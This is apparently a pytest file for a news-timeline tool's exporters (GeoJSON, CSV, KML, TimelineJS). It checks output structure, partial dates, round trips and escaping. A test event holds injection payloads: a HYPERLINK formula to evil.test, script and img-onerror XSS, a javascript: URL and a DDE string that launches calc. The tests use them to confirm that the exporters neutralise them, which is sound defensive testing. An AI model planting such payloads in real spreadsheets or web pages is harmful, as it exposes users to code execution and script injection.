"""Exporters checked with real parsers: json (GeoJSON structure), csv, xml.etree (KML), TimelineJS.

The sample timeline is made of model values and real GeoNames places from the gazetteer, plus
one place of the gazetteer's own (Donbas) and one with no id at all; one event is full of
hostile text (formula prefixes, quotes, newlines, markup, ``]]>``, control characters).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from gazetteer.index import Gazetteer, default_gazetteer
from gazetteer.model import Place, PlaceKind
from timeline.errors import InputError, OutputError
from timeline.exports import (
    EXPORT_FORMATS,
    export_text,
    export_timeline,
    format_for_path,
    to_csv,
    to_geojson,
    to_jsonl,
    to_kml,
    to_timelinejs,
)
from timeline.exports.csv import CSV_COLUMNS
from timeline.exports.geojson import geojson_text
from timeline.model import (
    Actor,
    ActorKind,
    Event,
    EventPlace,
    EventStatus,
    Interval,
    PlaceRole,
    Precision,
    Source,
    Timeline,
)
from timeline.readers import FORMULA_TRIGGERS, neutralise_formula, read_table, restore_formula
from timeline.table import events_from_table

KML = "{http://www.opengis.net/kml/2.2}"
HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?"&A1,"click") <script>alert(1)</script> ]]>'
HOSTILE_SENTENCE = 'He said "stop";\nthen <img src=x onerror=alert(1)> & left ]]> \x01 end'


def _day(text: str) -> Interval:
    return Interval.day(dt.date.fromisoformat(text))


def sample_events(gazetteer: Gazetteer) -> tuple[Event, ...]:
    get = gazetteer.get
    riyadh, saudi, moscow, kyiv = get(108410), get(102358), get(524901), get(703448)
    sydney, buenos_aires, ukraine = get(2147714), get(3435910), get(690791)
    donbas = next(p for p in gazetteer.lookup("Donbas") if p.geonameid is None)
    resort = Place(geonameid=None, name="Bürgenstock <resort>", lat=46.9983, lon=8.3797, kind=PlaceKind.SITE,
                   country_code="CH")
    talks = "Envoys met in Riyadh on Tuesday and agreed to restore embassy staff."
    return (
        Event(id="ev-open-start", title="Ceasefire holds until February 2014",
              interval=Interval(start=None, end=dt.date(2014, 3, 1)), precision=Precision.MONTH,
              status=EventStatus.REPORTED, places=(EventPlace(place=kyiv, role=PlaceRole.SITE, surface="Kyiv"),),
              date_reason="time expression 'until February 2014'"),
        Event(id="ev-open-end", title="Fighting in Donbas since 2014",
              interval=Interval(start=dt.date(2014, 1, 1), end=None), precision=Precision.YEAR,
              status=EventStatus.ONGOING,
              places=(EventPlace(place=donbas, role=PlaceRole.SITE, surface="Donbas", start=12, end=18),
                      EventPlace(place=ukraine, role=PlaceRole.MENTIONED, surface="Ukrainian", start=0, end=9))),
        Event(id="ev-month", title="Talks in February", interval=Interval(start=dt.date(2022, 2, 1),
                                                                           end=dt.date(2022, 3, 1)),
              precision=Precision.MONTH, places=(EventPlace(place=moscow, role=PlaceRole.ACTOR, surface="Kremlin"),)),
        Event(id="ev-riyadh", title="US-Russia talks in Riyadh", interval=_day("2025-02-18"), precision=Precision.DAY,
              places=(EventPlace(place=riyadh, role=PlaceRole.SITE, surface="Riyadh", start=14, end=20),
                      EventPlace(place=saudi, role=PlaceRole.MENTIONED),
                      EventPlace(place=moscow, role=PlaceRole.ACTOR, surface="Russian")),
              actors=(Actor(name="Marco Rubio", title="Secretary of State", country_code="US"),
                      Actor(name="Sergei Lavrov", country_code="RU"),
                      Actor(name="Saudi foreign ministry", kind=ActorKind.GOVERNMENT)),
              sentence=talks, sentence_start=40, sentence_end=40 + len(talks), document_id="riyadh-outcome",
              sources=(Source(document_id="riyadh-outcome", title="Talks end", url="https://example.org/a",
                              published=dt.date(2025, 2, 18)),
                       Source(document_id="riyadh-announced", title=None, url=None)),
              date_reason="time expression 'Tuesday'",
              disagreements=("dates differ: 2025-02-18 (a) vs 2025-02-19 (b)",)),
        Event(id="ev-week", title="Week of talks in the south", interval=Interval(start=dt.date(2023, 3, 6),
                                                                                   end=dt.date(2023, 3, 13)),
              precision=Precision.WEEK, status=EventStatus.HAPPENED,
              places=(EventPlace(place=sydney, role=PlaceRole.SITE), EventPlace(place=buenos_aires,
                                                                                  role=PlaceRole.SITE))),
        Event(id="ev-planned", title="Summit planned for the third quarter",
              interval=Interval(start=dt.date(2026, 7, 1), end=dt.date(2026, 10, 1)), precision=Precision.QUARTER,
              status=EventStatus.PLANNED),
        Event(id="ev-hostile", title=HOSTILE_TITLE, interval=_day("2024-06-15"), precision=Precision.DAY,
              places=(EventPlace(place=resort, role=PlaceRole.SITE, surface="<b>Bürgenstock</b>"),),
              actors=(Actor(name="-Evil; two|three", kind=ActorKind.ORGANISATION), Actor(name="@admin")),
              sentence=HOSTILE_SENTENCE, sentence_start=0, sentence_end=len(HOSTILE_SENTENCE),
              sources=(Source(document_id="d", title="+SUM(1,2)", url="javascript:alert(1)"),),
              date_reason="\t=cmd|' /C calc'!A0"),
    )


@pytest.fixture(scope="module")
def gazetteer() -> Gazetteer:
    return default_gazetteer()


@pytest.fixture(scope="module")
def sample(gazetteer: Gazetteer) -> Timeline:
    return Timeline(events=sample_events(gazetteer), title='Talks & "tests" <i>')


# --- GeoJSON -----------------------------------------------------------------------------------

def test_geojson_is_a_feature_collection_of_points_in_lon_lat_order(sample: Timeline) -> None:
    data = json.loads(geojson_text(sample))
    assert data == to_geojson(sample)
    assert data["type"] == "FeatureCollection"
    assert "crs" not in data  # RFC 7946 drops crs: coordinates are WGS 84
    features = data["features"]
    assert len(features) == sum(max(1, len(e.places)) for e in sample.events)
    for feature in features:
        assert feature["type"] == "Feature"
        assert set(feature) == {"type", "id", "geometry", "properties"}
        geometry = feature["geometry"]
        if geometry is None:
            assert feature["properties"]["place_count"] == 0
            continue
        assert geometry["type"] == "Point"
        lon, lat = geometry["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
    by_id = {f["id"]: f for f in features}
    assert by_id["ev-riyadh#0"]["geometry"]["coordinates"] == [46.72185, 24.68773]  # [lon, lat]
    assert by_id["ev-week#1"]["geometry"]["coordinates"] == [-58.37723, -34.61315]
    assert len({f["id"] for f in features}) == len(features)


def test_geojson_properties_dates_roles_and_open_intervals(sample: Timeline) -> None:
    features = {f["id"]: f["properties"] for f in to_geojson(sample)["features"]}
    riyadh = features["ev-riyadh#0"]
    assert (riyadh["event_id"], riyadh["start"], riyadh["end"], riyadh["precision"], riyadh["status"]) == (
        "ev-riyadh", "2025-02-18", "2025-02-18", "day", "happened")
    assert (riyadh["place_name"], riyadh["geonameid"], riyadh["role"]) == ("Riyadh", 108410, "site")
    assert features["ev-riyadh#2"]["role"] == "actor"
    assert riyadh["actors"] == ["Marco Rubio", "Sergei Lavrov", "Saudi foreign ministry"]
    assert riyadh["sources"] == ["https://example.org/a", "riyadh-announced"]
    assert riyadh["sentence"].startswith("Envoys met") and riyadh["date_reason"] == "time expression 'Tuesday'"
    open_end = features["ev-open-end#0"]
    assert (open_end["start"], open_end["end"], open_end["open_start"], open_end["open_end"]) == (
        "2014-01-01", None, False, True)
    open_start = features["ev-open-start#0"]
    assert (open_start["start"], open_start["end"], open_start["open_start"]) == (None, "2014-02-28", True)
    month = features["ev-month#0"]
    assert (month["start"], month["end"]) == ("2022-02-01", "2022-02-28")  # end is the last day inside
    assert features["ev-planned"]["place_count"] == 0 and features["ev-planned"]["place_name"] is None
    assert features["ev-hostile#0"]["title"] == HOSTILE_TITLE  # JSON keeps text as data


def test_geojson_output_is_deterministic(gazetteer: Gazetteer) -> None:
    first = geojson_text(Timeline(events=sample_events(gazetteer)))
    assert first == geojson_text(Timeline(events=sample_events(gazetteer)))
    keys = [list(f["properties"]) for f in json.loads(first)["features"]]
    assert all(k == keys[0] for k in keys)  # every feature has the same fields, in the same order


# --- CSV ---------------------------------------------------------------------------------------

def test_csv_parses_with_the_csv_module(sample: Timeline) -> None:
    text = to_csv(sample)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r["event_id"] for r in rows] == [e.id for e in sample.events]
    riyadh = next(r for r in rows if r["event_id"] == "ev-riyadh")
    assert (riyadh["event_date"], riyadh["end_date"], riyadh["time_precision"], riyadh["location"],
            riyadh["latitude"], riyadh["longitude"], riyadh["geonameid"], riyadh["actor1"], riyadh["actor2"]) == (
        "2025-02-18", "2025-02-18", "day", "Riyadh", "24.68773", "46.72185", "108410", "Marco Rubio", "Sergei Lavrov")
    assert [p["role"] for p in json.loads(riyadh["place_details"])] == ["site", "mentioned", "actor"]
    opened = {r["event_id"]: (r["event_date"], r["end_date"]) for r in rows}
    assert opened["ev-open-end"] == ("2014-01-01", "open")
    assert opened["ev-open-start"] == ("open", "2014-02-28")
    week = next(r for r in rows if r["event_id"] == "ev-week")
    assert week["latitude"] == "-33.86785"  # a negative number is data, not a formula: left alone
    assert text.endswith("\r\n")


def test_csv_cells_never_start_a_formula(sample: Timeline) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(sample), newline="")))
    hostile = dict(zip(rows[0], next(r for r in rows if r[0] == "ev-hostile"), strict=True))
    assert hostile["title"] == "'" + HOSTILE_TITLE
    assert hostile["actor1"] == "'-Evil; two|three" and hostile["actor2"] == "'@admin"
    assert hostile["source"] == "'+SUM(1,2)"
    assert hostile["date_reason"] == "'\t=cmd|' /C calc'!A0"
    for row in rows:
        for cell in row:
            if cell and cell[0] in FORMULA_TRIGGERS:
                float(cell)  # only plain numbers may start with "-"


@pytest.mark.parametrize(("text", "guarded"), [
    ("=1+2", "'=1+2"), ("+33 6 12", "'+33 6 12"), ("-foo", "'-foo"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=cmd", "'\t=cmd"), ("\r=cmd", "'\r=cmd"), ("\uff1d1+1", "'\uff1d1+1"), ("\uff0b1", "'\uff0b1"),
    ("\uff0dx", "'\uff0dx"), ("\uff20x", "'\uff20x"), ("'=x", "''=x"), ("''@x", "'''@x"),
    ("-1+2", "'-1+2"),  # a formula, even though it starts like a number
    ("-33.86", "-33.86"), ("-1e5", "-1e5"), ("2025-02-18", "2025-02-18"), ("'Twas", "'Twas"), ("'", "'"),
    ("", ""), ("plain = text", "plain = text"), ("a-b", "a-b"),
])
def test_formula_guard_and_its_inverse(text: str, guarded: str) -> None:
    assert neutralise_formula(text) == guarded
    assert restore_formula(guarded) == text


# --- KML ---------------------------------------------------------------------------------------

def _placemarks(sample: Timeline) -> dict[str, ET.Element]:
    root = ET.fromstring(to_kml(sample).encode("utf-8"))
    assert root.tag == f"{KML}kml"
    marks = root.findall(f"{KML}Document/{KML}Folder/{KML}Placemark")
    assert len(marks) == sum(len(e.places) for e in sample.events)

    def key(mark: ET.Element) -> str:
        data = {d.get("name"): d.findtext(f"{KML}value") for d in mark.iter(f"{KML}Data")}
        return f"{data['event_id']}#{mark.get('id', '').rsplit('-p', 1)[1]}"

    return {key(m): m for m in marks}


def test_kml_parses_and_has_time_spans_at_each_precision(sample: Timeline) -> None:
    marks = _placemarks(sample)

    def span(key: str) -> tuple[str | None, str | None]:
        mark = marks[key]
        return mark.findtext(f"{KML}TimeSpan/{KML}begin"), mark.findtext(f"{KML}TimeSpan/{KML}end")

    assert span("ev-riyadh#0") == ("2025-02-18", "2025-02-18")  # xsd:date
    assert span("ev-month#0") == ("2022-02", "2022-02")  # gYearMonth
    assert span("ev-open-end#0") == ("2014", None)  # gYear; an open end is left out (unbounded)
    assert span("ev-open-start#0") == (None, "2014-02")
    assert span("ev-week#0") == ("2023-03-06", "2023-03-12")
    assert marks["ev-riyadh#0"].findtext(f"{KML}Point/{KML}coordinates") == "46.72185,24.68773"  # lon,lat
    kml_date = re.compile(r"\d{4}(?:-\d{2}(?:-\d{2})?)?")  # gYear | gYearMonth | date
    for mark in marks.values():
        for bound in mark.iter(f"{KML}begin"), mark.iter(f"{KML}end"):
            assert all(kml_date.fullmatch(element.text or "") for element in bound)
        assert mark.find(f"{KML}TimeSpan") is not None
    assert marks["ev-riyadh#2"].findtext(f"{KML}styleUrl") == "#role-actor"


def test_kml_escapes_names_and_descriptions(sample: Timeline) -> None:
    text = to_kml(sample)
    assert "<script" not in text and "<img" not in text
    mark = _placemarks(sample)["ev-hostile#0"]
    assert mark.findtext(f"{KML}name") == HOSTILE_TITLE  # the parser gives the title back exactly
    description = mark.findtext(f"{KML}description") or ""
    # The description is HTML to Google Earth: the article's markup arrives escaped, as text.
    assert "&lt;img src=x onerror=alert(1)&gt;" in description and "<img" not in description
    assert "\ufffd end" in description  # the control character XML forbids was replaced
    root = ET.fromstring(text.encode("utf-8"))
    assert root.findtext(f"{KML}Document/{KML}name") == 'Talks & "tests" <i>'


def test_kml_says_how_many_events_had_no_place(sample: Timeline) -> None:
    root = ET.fromstring(to_kml(sample).encode("utf-8"))
    assert root.findtext(f"{KML}Document/{KML}Snippet") == "1 event(s) without a place are not shown"


# --- TimelineJS --------------------------------------------------------------------------------

def test_timelinejs_structure_and_partial_dates(sample: Timeline) -> None:
    data = json.loads(json.dumps(to_timelinejs(sample)))
    assert data["title"]["text"]["headline"] == "Talks &amp; &quot;tests&quot; &lt;i&gt;"
    slides = {s["unique_id"]: s for s in data["events"]}
    assert len(slides) == len(sample.events)
    assert slides["ev-riyadh"]["start_date"] == {"year": "2025", "month": "2", "day": "18"}
    assert "end_date" not in slides["ev-riyadh"]  # one day: the end says nothing new
    assert slides["ev-month"]["start_date"] == {"year": "2022", "month": "2"}
    assert "end_date" not in slides["ev-month"]
    assert slides["ev-planned"]["start_date"] == {"year": "2026", "month": "7"}
    assert slides["ev-planned"]["end_date"] == {"year": "2026", "month": "9"}
    assert slides["ev-open-end"]["start_date"] == {"year": "2014"} and "end_date" not in slides["ev-open-end"]
    assert slides["ev-open-end"]["display_date"] == "since 2014"
    assert slides["ev-open-start"]["start_date"] == {"year": "2014", "month": "2"}
    assert slides["ev-open-start"]["display_date"] == "until February 2014"
    assert slides["ev-week"]["end_date"] == {"year": "2023", "month": "3", "day": "12"}
    assert slides["ev-riyadh"]["group"] == "Riyadh" and "group" not in slides["ev-planned"]
    for slide in data["events"]:
        assert set(slide["text"]) == {"headline", "text"}
        assert all(isinstance(v, str) and v.isdigit() for v in slide["start_date"].values())


def test_timelinejs_escapes_text_and_links_only_web_urls(sample: Timeline) -> None:
    slides = {s["unique_id"]: s for s in to_timelinejs(sample)["events"]}
    hostile = slides["ev-hostile"]
    assert hostile["text"]["headline"] == (
        "=HYPERLINK(&quot;http://evil.test/?&quot;&amp;A1,&quot;click&quot;) "
        "&lt;script&gt;alert(1)&lt;/script&gt; ]]&gt;")
    assert "<img" not in hostile["text"]["text"] and "&lt;img src=x onerror=alert(1)&gt;" in hostile["text"]["text"]
    assert "Sources: +SUM(1,2)" in hostile["text"]["text"] and "href" not in hostile["text"]["text"]
    bad_link = Source(document_id="d", url="javascript:alert(1)")
    bare = Timeline(events=(Event(id="x", title="x", interval=Interval.day(dt.date(2020, 1, 1)),
                                  precision=Precision.DAY, sources=(bad_link,)),))
    (slide,) = to_timelinejs(bare)["events"]
    assert "javascript:alert(1)" in slide["text"]["text"] and "href" not in slide["text"]["text"]
    assert '<a href="https://example.org/a">Talks end</a>' in slides["ev-riyadh"]["text"]["text"]
    assert "&lt;resort&gt;" in hostile["group"]


def test_timelinejs_ids_are_fragment_safe(gazetteer: Gazetteer) -> None:
    event = sample_events(gazetteer)[3]
    odd = Timeline(events=(Event(id='a"b <c>', title="x", interval=event.interval, precision=Precision.DAY),))
    (slide,) = to_timelinejs(odd)["events"]
    assert slide["unique_id"].startswith("ev-") and slide["unique_id"].replace("-", "").isalnum()


# --- JSONL and the entry point -----------------------------------------------------------------

def test_jsonl_has_one_event_record_a_line(sample: Timeline) -> None:
    lines = to_jsonl(sample).splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["id"] for r in records] == [e.id for e in sample.events]
    assert records[0]["start"] is None and records[0]["end"] == "2014-03-01"  # the model's exclusive end


@pytest.mark.parametrize(("name", "expected"), [
    ("a.geojson", "geojson"), ("a.CSV", "csv"), ("a.kml", "kml"), ("a.timeline.json", "timelinejs"),
    ("a.timelinejs.json", "timelinejs"), ("out/a.jsonl", "jsonl"),
])
def test_format_from_suffix(name: str, expected: str) -> None:
    assert format_for_path(name) == expected


def test_ambiguous_or_unknown_formats_are_refused(tmp_path: Path, sample: Timeline) -> None:
    with pytest.raises(OutputError, match="GeoJSON or TimelineJS"):
        export_timeline(sample, tmp_path / "a.json")
    with pytest.raises(OutputError, match="cannot tell the export format"):
        export_timeline(sample, tmp_path / "a.txt")
    with pytest.raises(OutputError, match="unknown export format 'shp'"):
        export_timeline(sample, tmp_path / "a.geojson", format="shp")
    assert list(tmp_path.iterdir()) == []


def test_export_timeline_writes_every_format_atomically(tmp_path: Path, sample: Timeline) -> None:
    for fmt in EXPORT_FORMATS:
        path = export_timeline(sample, tmp_path / f"out.{fmt}.data", format=fmt)
        assert path.read_bytes().decode("utf-8") == export_text(sample, fmt)  # bytes: CSV rows end in CRLF
    written = export_timeline(sample, tmp_path / "x.timeline.json")
    assert json.loads(written.read_text(encoding="utf-8")) == to_timelinejs(sample)
    with pytest.raises(OutputError):
        export_timeline(sample, tmp_path / "missing" / "x.csv")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left


# --- Round trips of the sample, and edits made between export and import -------------------------

def _read_back(path: Path, gazetteer: Gazetteer) -> tuple[Event, ...]:
    return tuple(events_from_table(read_table(path), gazetteer=gazetteer))


@pytest.mark.parametrize("suffix", [".csv", ".geojson"])
def test_round_trip_gives_the_same_events(tmp_path: Path, sample: Timeline, gazetteer: Gazetteer,
                                          suffix: str) -> None:
    path = export_timeline(sample, tmp_path / f"sample{suffix}")
    back = _read_back(path, gazetteer)
    for original, read in zip(sample.events, back, strict=True):
        assert read == original, original.id


def test_a_geojson_file_named_json_reads_too(tmp_path: Path, sample: Timeline, gazetteer: Gazetteer) -> None:
    path = export_timeline(sample, tmp_path / "sample.json", format="geojson")
    assert _read_back(path, gazetteer) == sample.events


def _edit_csv(path: Path, event_id: str, **cells: str) -> None:
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    for row in rows:
        if row["event_id"] == event_id:
            row.update(cells)
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def test_csv_edit_of_a_plain_column_alone_is_refused(tmp_path: Path, sample: Timeline, gazetteer: Gazetteer) -> None:
    path = export_timeline(sample, tmp_path / "t.csv")
    _edit_csv(path, "ev-riyadh", location="Jeddah")
    with pytest.raises(InputError, match=r"t\.csv:\d+: column 'location': 'Jeddah' disagrees with place 'Riyadh'"):
        read_table(path)
    _edit_csv(path, "ev-riyadh", actor1="Someone Else", location="Riyadh")
    with pytest.raises(InputError, match="column 'actor1'"):
        read_table(path)


def test_csv_without_detail_cells_falls_back_to_the_plain_columns(tmp_path: Path, sample: Timeline,
                                                                   gazetteer: Gazetteer) -> None:
    path = export_timeline(sample, tmp_path / "t.csv")
    _edit_csv(path, "ev-riyadh", location="Jeddah", latitude="", longitude="", geonameid="", place_details="",
              actor_details="", actor1="Marco Rubio", actor2="")
    event = next(e for e in _read_back(path, gazetteer) if e.id == "ev-riyadh")
    # Jeddah, in the country of the country_code column
    assert [(ep.place.geonameid, ep.role) for ep in event.places] == [(105343, PlaceRole.SITE),
                                                                      (102358, PlaceRole.MENTIONED)]
    assert [a.name for a in event.actors] == ["Marco Rubio"]
    assert event.interval == Interval.day(dt.date(2025, 2, 18)) and event.title == "US-Russia talks in Riyadh"


def _edit_geojson(path: Path, feature_id: str, change) -> None:  # type: ignore[no-untyped-def]
    data = json.loads(path.read_text(encoding="utf-8"))
    for feature in data["features"]:
        if feature["id"] == feature_id:
            change(feature)
    path.write_text(json.dumps(data), encoding="utf-8")


def test_geojson_moved_geonames_point_is_refused_unless_unlinked(tmp_path: Path, sample: Timeline,
                                                                 gazetteer: Gazetteer) -> None:
    path = export_timeline(sample, tmp_path / "t.geojson")

    def move(feature: dict) -> None:  # type: ignore[type-arg]
        feature["geometry"]["coordinates"] = [46.8, 24.6]

    _edit_geojson(path, "ev-riyadh#0", move)
    message = r"t\.geojson:\d+: place 0 \('Riyadh'\) is at 24\.6, 46\.8, but GeoNames 108410"
    with pytest.raises(InputError, match=message):
        _read_back(path, gazetteer)

    def unlink(feature: dict) -> None:  # type: ignore[type-arg]
        feature["properties"]["geonameid"] = None

    _edit_geojson(path, "ev-riyadh#0", unlink)
    event = next(e for e in _read_back(path, gazetteer) if e.id == "ev-riyadh")
    moved = event.places[0].place
    assert (moved.geonameid, moved.name, moved.lat, moved.lon, moved.country_code) == (None, "Riyadh", 24.6, 46.8, "SA")


def test_geojson_features_of_one_event_must_agree(tmp_path: Path, sample: Timeline, gazetteer: Gazetteer) -> None:
    path = export_timeline(sample, tmp_path / "t.geojson")

    def retitle(feature: dict) -> None:  # type: ignore[type-arg]
        feature["properties"]["title"] = "Other"

    _edit_geojson(path, "ev-riyadh#1", retitle)
    with pytest.raises(InputError, match=r"event 'ev-riyadh': property 'title' differs from feature"):
        read_table(path)


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_every_format_is_byte_identical_when_built_twice(gazetteer: Gazetteer, fmt: str) -> None:
    build = lambda: Timeline(events=sample_events(gazetteer), title="T")  # noqa: E731
    assert export_text(build(), fmt) == export_text(build(), fmt)


def test_a_refused_export_leaves_the_previous_file(tmp_path: Path, sample: Timeline) -> None:
    target = tmp_path / "keep.csv"
    target.write_text("previous\n", encoding="utf-8")
    with pytest.raises(OutputError):
        export_timeline(sample, target, format="xlsx")
    assert target.read_text(encoding="utf-8") == "previous\n"
    export_timeline(sample, target)
    assert target.read_bytes().decode("utf-8") == to_csv(sample)


def test_public_api_is_pinned() -> None:
    import timeline.exports

    assert sorted(timeline.exports.__all__) == [
        "EXPORT_FORMATS", "event_record", "export_text", "export_timeline", "extraction_record", "format_for_path",
        "place_record", "to_csv", "to_geojson", "to_jsonl", "to_kml", "to_timelinejs"]
    assert EXPORT_FORMATS == ("geojson", "csv", "kml", "timelinejs", "jsonl")
